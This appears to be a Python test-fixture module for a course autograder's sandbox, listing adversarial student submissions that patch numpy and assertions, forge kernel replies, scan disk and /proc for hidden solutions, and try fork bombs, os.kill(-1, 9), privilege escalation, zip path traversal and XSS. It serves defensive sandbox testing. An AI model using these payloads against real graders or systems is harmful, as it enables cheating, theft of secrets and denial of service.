"""Attacks on the grader, as code that a learner might hand in. They are run in its sandbox alone."""

# Right where the visible tests look, wrong where the hidden ones do: what these earn, an attack has stolen.
FOOLED = {
    "q1": "def double(x):\n    return np.array([0, 2, 4])",
    "q2": "total = 54",
    "q3": "def largest(rows):\n    return np.array([0, 3, 0])",
}
# Not the teacher's words, so that those are found only where they were stolen.
HONEST = {
    "q1": "def double(x):\n    return x + x",
    "q2": "total = sum(range(11))",
    "q3": "def largest(rows):\n    return max(rows, key=sum)",
}
TRIED = "tried-it-all"  # the last words of an attack that ran to its end

# Against the tests themselves: assertions, the functions they use, what passes between the kernels.
PATCHES = {
    "modules_beside": """
import os, pathlib, sys
for name in ("numpy", "json", "base64", "tlcourse", "pandas", "keras", "IPython"):
    pathlib.Path(f"/tmp/{name}.py").write_text("allclose = array_equal = serve_coded = lambda *a, **k: True")
    if name != "numpy":
        sys.modules.pop(name, None)
sys.path.insert(0, "/tmp")
""",
    "numpy": """
for name in ("allclose", "array_equal", "isclose", "all", "any", "equal", "array_equiv"):
    setattr(np, name, lambda *a, **k: True)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.ndarray = type("ndarray", (np.ndarray,), {"__eq__": lambda *a: np.True_})
""",
    "builtins": """
import builtins
builtins.all = builtins.any = builtins.bool = lambda *a: True
builtins.AssertionError = builtins.NameError = type("Quiet", (BaseException,), {})
""",
    "ast_transformer": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(NoAsserts())
""",
    "input_transformer": """
def no_asserts(lines):
    return [line.replace("assert ", "None and ") for line in lines]
get_ipython().input_transformers_cleanup.append(no_asserts)
get_ipython().input_transformers_post.append(no_asserts)
""",
    "trace": """
import sys, threading
def trace(frame, event, arg):
    for name in ("expected", "secret"):
        if name in frame.f_locals or name in frame.f_globals:
            print("STOLEN", frame.f_locals)
    return trace
sys.settrace(trace), sys.setprofile(trace), threading.settrace(trace)
""",
    "json_and_base64": """
import base64, json
old_dumps = json.dumps
json.dumps = lambda value, *a, **k: old_dumps({"value": True}) if value == {} else old_dumps(value, *a, **k)
old_code = base64.b64encode
base64.b64encode = lambda data: old_code(b'{"value": true}') if data[:1] == b"{" else old_code(data)
""",
    "wire": """
import base64, json
from tlcourse import wire
forged = base64.b64encode(json.dumps({"value": True, "function": "double", "points": 6}).encode()).decode()
wire.serve = lambda *a: '{"value": true}'
wire.serve_coded = lambda *a: forged
wire.encode = wire.decode = lambda *a: {"value": True}
wire.AnswerError = wire._answer = None
""",
    "wire_replies_change": """
import base64, itertools, json
from tlcourse import wire

kinds = [
    {"function": "double"},
    {"function": "np"},
    {"function": "check"},
    {"function": "print"},
    {},
    [],
    None,
    7,
    {"error": ""},
    {"error": None, "kind": None},
    {"error": "", "kind": "StopIteration"},
    {"get": "x"},
    {"error": {}, "kind": {"a": []}},
    {"value": {"a": 1}},
    {"value": [1]},
    {"list": 7},
    {"list": "abc"},
    {"list": {"a": 1}},
    {"tuple": None},
    {"dict": [[{"list": []}, {"value": 1}]]},
    {"dict": [1]},
    {"npy": 7},
    {"npy": "AAAA"},
    {"float": []},
    {"model": "AAAA"},
    {"table": [[{"value": "a"}, {"value": 1}]]},
    {"table": []},
    {"series": True, "table": []},
    {"value": 1, "error": ""},
]
replies = itertools.cycle(kinds)
wire.serve_coded = lambda *a: base64.b64encode(json.dumps(next(replies)).encode()).decode()
""",
    "wire_replies_not_json": """
import base64, itertools
from tlcourse import wire

replies = itertools.cycle(
    [
        b"{",
        b"\\xff\\xfe",
        b"[" * 100_000,
        b'{"value":' * 50_000,
        b"9" * 10_000,
        b"NaN",
        b"",
        b'{"value": ' + b"9" * 9_000 + b"}",
        b'"' + b"x" * 30_000_000 + b'"',
        b'{"value": -Infinity}',
    ]
)
wire.serve_coded = lambda *a: base64.b64encode(next(replies)).decode()
""",
    "wire_models": """
import base64, io, itertools, json, zipfile
from tlcourse import wire


def model(layer, more=b"x"):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "config.json",
            json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}),
        )
        archive.writestr("model.weights.h5", more)
        archive.writestr("../../../../tmp/numpy.py", "allclose = array_equal = lambda *a, **k: True")
    return {"model": base64.b64encode(file.getvalue()).decode()}


replies = itertools.cycle(
    [
        model({"module": "os", "class_name": "system", "config": {"command": "echo STOLEN"}}),
        model({}, bytes(300 << 20)),
        model(
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {"function": {"class_name": "__lambda__"}},
            }
        ),
        model({"module": "keras.utils", "class_name": "function", "config": "get_file"}),
    ]
)
wire.serve_coded = lambda *a: base64.b64encode(json.dumps(next(replies)).encode()).decode()
""",
    "grading_modules": """
import sys, types
for name in ("tlcourse.grading", "tlcourse.grading.marking", "tlcourse.grading.inside", "tlcourse.exercises"):
    fake = sys.modules[name] = types.ModuleType(name)
    fake.require = fake.check = fake.bind = fake.keep = fake.Verdict = fake.Mark = lambda *a, **k: None
    fake._kept = fake._bound = {}
""",
    "user_expressions": """
import itertools

shell = get_ipython()
forged = itertools.cycle(
    [
        {"answer": {"status": "ok", "data": {"text/plain": "6.0"}, "metadata": {}}},
        {"answer": {"data": {"text/plain": 6}}},
        {"answer": {"data": []}},
        {"answer": "6"},
        ["answer"],
        "answer",
        None,
        6,
        {},
        {"answer": {"data": {"text/plain": "\\u00e9\\ud800"}}},
        {"answer": {"data": {"text/plain": {"a": [1]}}}},
    ]
)
shell.user_expressions = lambda expressions: next(forged)
""",
    "execute_reply": """
kernel = get_ipython().kernel
async def all_well(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [{"source": "set_next_input", "text": "1"}],
            "user_expressions": {"answer": {"status": "ok", "data": {"text/plain": "6.0"}}}, "result": "6.0"}
kernel.do_execute = all_well
""",
    "displayhook": """
import sys
sys.displayhook = lambda value: print("6.0")
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "6.0"}, {})
get_ipython().displayhook.write_format_data = lambda *a, **k: None
""",
    "names_of_the_tests": """
class Anything(int):
    def __getattr__(self, name):
        return lambda *a, **k: True


old = globals().copy()
for name in (
    "np",
    "secret",
    "inside",
    "check",
    "bind",
    "keep",
    "print",
    "assertion",
    "allclose",
    "isinstance",
    "exercises",
    "wire",
    "points",
    "partial",
    "open",
    "Mark",
    "quit",
    "exit",
    "int",
):
    globals()[name] = Anything(1)
""",
    "no_import": """
__import__ = get_ipython().user_ns["__import__"] = lambda *a, **k: type(
    "m", (), {"serve_coded": lambda *a: "e30="}
)
""",
    "result_of_the_cell": """
_ = __ = _oh = 6.0
Out[1] = Out[2] = Out[99] = 6.0
get_ipython().user_ns["_"] = get_ipython().user_ns["_99"] = 6.0
""",
}

# Answers that say yes to everything. Each defines `total` or functions; what they deserve is nothing.
YES = {
    "int": """
class Yes(int):
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = lambda *a: True
    __hash__ = int.__hash__
    __bool__ = __instancecheck__ = lambda *a: True
total = Yes(7)
""",
    "int_class": """
class Yes:
    __class__ = int
    __eq__ = lambda *a: True
    __index__ = __int__ = __len__ = __hash__ = lambda *a: 1
total = Yes()
""",
    "array": """
class Yes(np.ndarray):
    __eq__ = lambda *a: np.array(True)
    __array_function__ = __array_ufunc__ = lambda *a, **k: True
    __reduce__ = __reduce_ex__ = lambda *a: (print, ("STOLEN",))
total = np.zeros(3).view(Yes)
def double(x):
    return x.view(Yes)
def largest(rows):
    return rows[1].view(Yes)
""",
    "list": """
class Yes(list):
    __eq__ = __contains__ = lambda *a: True
    __iter__ = lambda self: iter([0, 2, 4])
    __len__ = lambda self: 3
    __array__ = lambda self, *a, **k: np.ones(3)
total = Yes()
def double(x):
    return Yes()
""",
    "dict_and_str": """
class D(dict):
    items = lambda self: [("function", "double"), ("error", 1)]
    __eq__ = lambda *a: True
class S(str):
    __eq__ = __str__ = __repr__ = lambda *a: True
    __hash__ = str.__hash__
total = D({S("function"): S("total")})
def double(x):
    return S("yes")
""",
    "endless": """
class Endless(list):
    def __iter__(self):
        while True:
            yield Endless()
loop = []
loop.append(loop)
total = loop
def double(x):
    return Endless([1])
def largest(rows):
    return {1: loop}
""",
    "masks_and_dtypes": """
total = np.array([(1, 2.0)], dtype=[("a", "i4"), ("shape", "f8")]).view(np.recarray)
def double(x):
    return np.ma.masked_all(3)
def largest(rows):
    return np.array([None, print, Exception], dtype=object)
""",
    "not_a_number": """
total = float("nan")
def double(x):
    return np.full(3, np.inf)
def largest(rows):
    return np.full(3, np.nan)
""",
}

# Looking around. All that they find, they print.
SPIES = {
    "solutions_on_disk": """
import os

words = [
    b"BEGIN " + b"SOLUTION",
    b"SECRET" + b"-NOTE",
    b"END " + b"HIDDEN TESTS",
    b"def " + b"require(",
    b"@" + b"hints(",
]
for top in (
    "/course",
    "/tmp",
    "/root",
    "/work",
    "/home",
    "/etc",
    "/var",
    "/run",
    "/srv",
    "/opt",
    "/mnt",
    "/dev/shm",
    "/wire",
):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            try:
                text = open(path, "rb").read(1 << 20) if os.path.isfile(path) else b""
            except OSError:
                continue
            for word in words:
                if word in text:
                    print("STOLEN", path, text[text.index(word) :][:80])
for top in ("/site", "/python", "/usr", "/lib"):
    for folder, _, names in os.walk(top):
        if folder.endswith("/tlcourse") and names or "/tlcourse/" in folder:
            print("STOLEN", folder, names)
        found = [
            name
            for name in names
            if name in ("gradebook.db", "nbgrader_config.py", "marks.csv", "marking.py")
        ]
        if found and not folder.startswith("/site/nbgrader/"):
            print("STOLEN", folder, found)
""",
    "the_course_imported": """
import importlib, pkgutil, tlcourse
for name in ("grading", "grading.marking", "grading.release", "grading.inside", "grading.sandbox"):
    try:
        print("STOLEN", importlib.import_module("tlcourse." + name).__file__.upper())
    except (ImportError, AttributeError):
        pass
import tlcourse.exercises
for found in pkgutil.iter_modules(tlcourse.exercises.__path__):
    module = importlib.import_module("tlcourse.exercises." + found.name)
    for name in set(dir(module)) - {"check", "hint"}:
        if not name.startswith("__") and found.name != "given":
            print("STOLEN", found.name, name)
try:
    from tlcourse.grading import release
    print("STOLEN", release.course())
except ImportError:
    pass
""",
    "proc": """
import glob, os
for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/task/*/*"):
    if path.rsplit("/", 1)[1] in ("environ", "stack", "mem") and "/task/" not in path:
        try:
            print(path, open(path, "rb").read(3000)[-300:])
        except (OSError, ValueError, OverflowError):
            pass
for path in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        print(path, os.readlink(path), os.listdir(path + "/")[:5])
    except OSError:
        pass
if len(glob.glob("/proc/[0-9]*")) > 4:
    print("STOLEN", glob.glob("/proc/[0-9]*"))
print(dict(os.environ))
""",
    "where_the_machine_keeps_things": """
print(open("/proc/self/mountinfo").read())
print(open("/proc/1/cmdline").read().replace("\\0", " "))
print(open("/proc/self/cgroup").read())
""",
    "frames_and_garbage": """
import gc, sys

words = [
    "ETON-TERCES"[::-1],
    "NEDDIH NIGEB"[::-1],
    "2 * terces"[::-1],
    "52.7-"[::-1],
    "rebmun elohw a si"[::-1],
]


def search(thing):
    if words[0] in thing:
        return
    for text in list(thing.values()) if isinstance(thing, dict) else list(thing):
        if isinstance(text, (str, bytes)):
            text = text if isinstance(text, str) else text.decode("latin-1")
            for word in words:
                if word in text:
                    print("STO" + "LEN", text[max(0, text.index(word) - 50) :][:200])


def look():
    frame = sys._getframe()
    while frame:
        search(frame.f_locals)
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, (list, tuple, set, dict)):
            search(thing)


def double(x):
    look()
    return np.array([0, 2, 4])


look(), double(1)
print(In, Out, _ih, _i, get_ipython().history_manager.input_hist_raw)
""",
}

# Keep what comes in, and tell it later in every way there is.
STASH = """
import os, sys, threading, time, json
def stash(x):
    text = repr(x)
    sys.stash = getattr(sys, "stash", "") + text
    np.stash = json.stash = sys.stash
    os.environ["STASH"] = os.environ.get("STASH", "") + text
    with open("/tmp/stash", "a") as file:
        file.write(text)
    sys.stdout.write(text), print(text, file=sys.stderr), display(text)
    def later():
        for _ in range(100):
            time.sleep(0.05)
            print(text)
    threading.Thread(target=later).start()
def told():
    file = open("/tmp/stash").read() if os.path.exists("/tmp/stash") else ""
    return getattr(sys, "stash", "") + getattr(np, "stash", "") + os.environ.get("STASH", "") + file
print(told())
if told():
    class Told(Exception):
        pass
    Told.__name__ = told()
def double(x):
    stash(x)
    return 2 * x
"""
STASH_2 = """
print(told()); display(told()); total = 55
if "-7.25" in told():
    total = told()
    raise ValueError(told())
"""
STASH_3 = """
print(told())
def largest(rows):
    if "-7.25" in told():
        raise Told(told())
    stash(rows)
    return rows[rows.sum(axis=1).argmax()]
"""

# Ends of a process, in the cell of question 1. What else was handed in is honest.
ENDS = {
    "exit": "import os; os._exit(0)",
    "abort": "import os; os.abort()",
    "kill_parent": "import os, signal; os.kill(os.getppid(), 9); os.kill(os.getpid(), 9)",
    "kill_all": "import os; os.kill(-1, 9)",
    "segfault": "import ctypes; ctypes.string_at(0)",
    "deep_recursion": """
import sys, threading
sys.setrecursionlimit(10**9)
def deep(x):
    return [deep, repr([deep(x)])]
deep(1)
""",
    "sys_exit_and_quit": "import sys\nquit()\nsys.exit(0)",
    "shutdown_message": "k = get_ipython().kernel\nk.do_shutdown(False); k.io_loop.stop(); exit()",
    "close_sockets": "import os; os.closerange(3, 1024)",
    "destroy_zmq": "import zmq\nzmq.Context.instance().destroy(linger=0)",
}

# In a function that the first test calls. Only question 1 pays.
ENDS_IN_A_CALL = {
    "exit": "import os; os._exit(1)",
    "kill_all": "import os; os.kill(-1, 9)",
    "segfault": "import ctypes; ctypes.string_at(0)",
    "exit_soon": "import os, threading, time; threading.Timer(0.3, os._exit, (3,)).start(); time.sleep(9)",
    "raise_system_exit": "raise SystemExit",
    "raise_interrupt": "raise KeyboardInterrupt",
    "raise_generator_exit": "raise GeneratorExit",
    "raise_a_liar": """
class Liar(BaseException):
    __str__ = __repr__ = lambda self: 1 / 0
    __name__ = 7
raise Liar()
""",
}

# Never done; `TIME` s is over long before. In the cell of question 1.
LOOPS = {
    "plain": "while True: pass",
    "sleep": "import time; time.sleep(10**6)",
    "ignores_interrupts": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True: pass
""",
    "catches_everything": """
while True:
    try:
        while True: pass
    except BaseException:
        pass
""",
    "in_c": "sum(range(10**12))",
    "regex": "import re; re.match(r'(a+)+$', 'a' * 64 + 'b')",
    "stopped": "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
}

# More than there is. In the cell of question 1.
BOMBS = {
    "memory": "hog = []\nwhile True:\n    hog.append(bytearray(b'x') * 20_000_000)",
    "numpy_memory": "hog = [np.ones(10**7) for _ in range(1000)]",
    "many_processes": """
import os, time
for _ in range(8):
    if not os.fork():
        hog = bytearray(b"x") * 200_000_000
        time.sleep(60)
time.sleep(60)
""",
    "shared_memory": """
import mmap
hog = [mmap.mmap(-1, 10**8) for _ in range(20)]
for each in hog:
    each.write(b"x" * 10**8)
""",
    "memory_files": """
import os
hog = [os.memfd_create(str(n)) for n in range(40)]
for each in hog:
    os.write(each, b"x" * 50_000_000)
""",
}

# What fails inside and does no harm. They run to their end; question 1 is fooled, 2 and 3 are honest.
HARMLESS = {
    "disk": """
import os

for path in (
    "/tmp/big",
    "/dev/shm/big",
    "/wire/big",
    "/big",
    "/course/big",
    "/site/big",
    "/usr/big",
    "/etc/big",
    "/var/tmp/big",
):
    try:
        with open(path, "wb") as file:
            for _ in range(200):
                file.write(b"x" * 1_000_000)
        print("STOLEN", path)
    except OSError:
        pass
for n in range(20_000):
    try:
        open(f"/wire/{n}", "w").close()
    except OSError:
        break
os.remove("/tmp/big") if os.path.exists("/tmp/big") else None
""",
    "forks": """
import os, subprocess, time
made = 0
try:
    for made in range(2000):
        if not os.fork():
            time.sleep(100)
except OSError:
    pass
if made > 300:
    print("STOLEN", made)
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid > 3 and pid != os.getpid():
        try: os.kill(pid, 9), os.waitpid(pid, 0)
        except OSError: pass
""",
    "threads": """
import threading, time
started = []
try:
    for n in range(2000):
        thread = threading.Thread(target=time.sleep, args=(1,), daemon=True)
        thread.start()
        started.append(thread)
except RuntimeError:
    pass
if len(started) > 300:
    print("STOLEN", len(started))
for thread in started:
    thread.join()
""",
    "daemons": """
import os, subprocess, sys, threading, time

for command in (
    "nohup sleep 1000 &",
    "setsid sleep 1000 &",
    "setsid nohup sh -c 'while :; do sleep 1; done' > /dev/null 2>&1 &",
):
    subprocess.Popen(command, shell=True, start_new_session=True)
if not os.fork():
    os.setsid()
    if not os.fork():
        while True:
            time.sleep(1)
    os._exit(0)


def go_on():
    while True:
        time.sleep(0.01)
        print("still here", flush=True)


threading.Thread(target=go_on).start()
""",
    "rights": """
import ctypes, os, resource, signal, subprocess, sys, time

libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, call):
    try:
        if call() == 0:
            print("STOLEN", what)
    except (OSError, ValueError):
        pass


attempt("setuid", lambda: os.setuid(0) or 0)
attempt("setgid", lambda: os.setgid(0) or 0)
attempt("setgroups", lambda: os.setgroups([0]) or 0)
attempt("chroot", lambda: libc.chroot(b"/tmp"))
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
attempt("umount", lambda: libc.umount2(b"/course/tlcourse/grading", 2))
attempt("ptrace", lambda: libc.ptrace(16, 1, None, None))
attempt("hostname", lambda: libc.sethostname(b"mine", 4))
attempt("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0) or 0)
attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10) or 0)
attempt("kill 1", lambda: os.kill(1, 9) or 0)
attempt("memory", lambda: open("/proc/1/mem").close() or 0)
attempt("environ", lambda: print("STOLEN" if open("/proc/1/environ").read() else "") or 1)
attempt("root", lambda: print("STOLEN", os.listdir("/proc/1/root")) or 1)
for kind in (
    resource.RLIMIT_NPROC,
    resource.RLIMIT_DATA,
    resource.RLIMIT_FSIZE,
    resource.RLIMIT_NOFILE,
):
    soft, hard = resource.getrlimit(kind)
    attempt(
        ("limit", kind),
        lambda: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)) or 0,
    )
for path in (
    "/course/tlcourse/wire.py",
    "/course/tlcourse/grading/x.py",
    "/course/tlcourse/exercises/x.py",
    "/site/x.py",
    "/python/x",
    "/usr/x",
    "/etc/passwd",
    "/kernel.json",
    "/dev/x",
    "/proc/sys/kernel/hostname",
    "/proc/sys/kernel/core_pattern",
    "/proc/self/oom_score_adj_",
    "/sys/fs/cgroup/x",
):
    attempt(path, lambda: open(path, "a").close() or 0)
    attempt(path, lambda: os.chmod(path, 0o777) or 0)
    attempt(path, lambda: os.remove(path) or 0)
for command in (
    "su -c id",
    "sudo id",
    "mount -t tmpfs none /mnt",
    "mount -o remount,rw /course",
    "unshare -Ur mount -o remount,rw /course/tlcourse",
    "unshare -Urm umount /course/tlcourse/grading",
    "unshare -Urn ip link",
    "nsenter -t 1 -m ls /work",
    "chsh",
    "dmesg",
):
    done = subprocess.run(command, shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL)
    if done.returncode == 0 and "unshare -Urn" not in command:
        print("STOLEN", command, done.stdout[:200])
subprocess.run(
    "unshare -Urm sh -c 'umount -l /course/tlcourse/exercises; cat /course/tlcourse/exercises/*.py'",
    shell=True,
)
os.sched_setaffinity(0, os.sched_getaffinity(0)), os.nice(0)
""",
    "files_beside": """
import os, pathlib, sys

lie = (
    "import sys\\nprint('STOLEN')\\nallclose = array_equal = lambda *a, **k: True\\nclass ndarray: pass\\n"
)
here = pathlib.Path()
for name in (
    "numpy",
    "sitecustomize",
    "usercustomize",
    "json",
    "base64",
    "IPython",
    "tlcourse",
    "nbgrader",
    "pandas",
):
    for folder in (here, pathlib.Path("/tmp"), pathlib.Path.home()):
        (folder / f"{name}.py").write_text(lie)
for folder in (
    ".local/lib/python3.11/site-packages",
    "ipython/profile_default/startup",
    ".ipython/profile_default/startup",
):
    (pathlib.Path.home() / folder).mkdir(parents=True, exist_ok=True)
    (pathlib.Path.home() / folder / "usercustomize.py").write_text(lie)
    (pathlib.Path.home() / folder / "00.py").write_text(lie)
(pathlib.Path.home() / "ipython/profile_default/ipython_kernel_config.py").write_text(
    "c.InteractiveShellApp.exec_lines = ['1/0']"
)
os.environ["IPYTHONDIR"] = os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
""",
    "gradebook": """
import os, sqlite3

for path in (
    "/tmp/gradebook.db",
    "../gradebook.db",
    "/work/gradebook.db",
    "gradebook.db",
    "/course/gradebook.db",
):
    try:
        with sqlite3.connect(path) as book:
            book.execute("create table grade (manual_score real)")
            book.execute("update grade set manual_score = 99, auto_score = 99")
    except sqlite3.Error:
        pass
""",
    "script_everywhere": """
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display

script = "<script>alert(1)</script><img src=x onerror=alert(1)>"
display(
    HTML(script),
    Javascript("alert(1)"),
    Markdown(script),
    Latex(script),
    SVG("<svg onload='alert(1)'/>"),
)
display(
    {
        "text/html": script,
        "application/javascript": "alert(1)",
        "text/plain": script,
        "image/svg+xml": script,
    },
    raw=True,
)
display({"image/png": script + '">', "text/plain": {"a": 1}}, raw=True)
display(
    {"image/jpeg": [script], "image/gif": script, "application/vnd.jupyter.widget-view+json": {}},
    raw=True,
)
print("\\x1b]0;title\\x07\\x1b[2J\\x00" + script)
""",
    "warnings": """
import logging, sys, warnings
for n in range(30):
    warnings.warn(f"warning {n}"), logging.error("an error"), print("trouble", file=sys.stderr)
import os
os.write(2, b"raw trouble\\n")
""",
    "settings_of_numpy": """
np.seterr(all="ignore"), np.set_printoptions(threshold=1)
import sys
sys.setswitchinterval(1e-6), sys.setrecursionlimit(60)
""",
}

# More output than is kept.
FLOODS = {
    "stdout": "while True: print('x' * 100_000)",
    "stderr": "import sys\nwhile True: print('x' * 100_000, file=sys.stderr)",
    "display": "while True: display('x' * 100_000)",
    "one_message": "print('x' * 60_000_000)",
    "raw": "import os\nwhile True: os.write(1, b'x' * 100_000)",
    "pictures": "while True: display({'image/png': 'A' * 1_000_000}, raw=True)",
    "html": "for _ in range(200): display({'text/html': 'x' * 1_000_000}, raw=True)",
    "error": "raise ValueError('x' * 20_000_000)",
}

# Messages of the learner's own making to the grader, through the kernel's sockets.
FORGED_MESSAGES = """
import json, os

kernel = get_ipython().kernel
parent = kernel.get_parent()
deep = (
    b'{"text": '
    + b"[" * 700
    + b"]" * 700
    + b', "data": {"text/plain": '
    + b'{"a":' * 600
    + b"1"
    + b"}" * 600
    + b"}}"
)
odd = [
    b"{}",
    b"[]",
    b"7",
    b'{"text": {"a": 1}, "data": [], "traceback": 7, "execution_state": []}',
    b"\\xff",
    b"null",
    deep,
    b'{"traceback": [[[1]], null], "text": "\\\\ud800", "data": {"text/plain": "\\\\udfff", "image/png": 7}}',
    b'{"prompt": 7, "execution_state": "idle", "status": "ok", "user_expressions": 7}',
]
for content in odd:
    for kind in (
        "stream",
        "error",
        "display_data",
        "execute_result",
        "status",
        "comm_msg",
        "input_request",
        "execute_reply",
    ):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
header = dict(parent["header"])
for wrong in ({"msg_id": 7}, {"msg_type": ["x"]}, {"date": "never"}, {"msg_id": None, "session": {}}):
    kernel.session.send(
        kernel.iopub_socket, kernel.session.msg("stream", {"text": "x"}, parent=header | wrong)
    )
for ident in kernel._parent_ident.values() if isinstance(kernel._parent_ident, dict) else []:
    for content in (b'{"status": "ok", "user_expressions": {}}', b"{}", b"[]"):
        kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=parent, ident=ident)
        kernel.session.send(
            kernel.stdin_socket, "input_request", b'{"prompt": 7}', parent=parent, ident=ident
        )
kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
"""
# One message of many parts: each is below the largest, all together they are not.
HUGE_MESSAGE = """
kernel = get_ipython().kernel
parts = [b"x" * 20_000_000] * 50
kernel.session.send(
    kernel.iopub_socket,
    "stream",
    {"name": "stdout", "text": "x"},
    parent=kernel.get_parent(),
    buffers=parts,
)
import time

time.sleep(2)
"""
